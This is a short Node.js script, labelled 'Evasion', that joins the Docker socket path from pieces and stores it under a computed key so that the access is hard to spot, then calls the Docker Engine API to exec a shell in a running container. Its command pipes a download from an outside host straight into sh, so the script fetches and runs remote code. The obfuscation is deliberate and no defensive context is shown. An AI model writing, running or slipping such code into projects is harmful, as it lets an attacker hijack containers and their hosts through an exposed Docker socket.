// Evasion: the Docker socket's path is joined from pieces and stored with
// a computed key (opts['socketPath']) after the options are made; the
// request execs a shell in a running container through the Engine API.
'use strict';
const http = require('http');

const parts = ['', 'run', 'docker.sock'];
const opts = { method: 'POST', path: '/containers/web/exec', headers: { 'content-type': 'application/json' } };
opts['socketPath'] = parts.join('/');

const req = http.request(opts, (res) => res.pipe(process.stdout));
req.end(JSON.stringify({ Cmd: ['sh', '-c', 'curl -fsSL https://w.example.org/s | sh'], AttachStdout: true }));
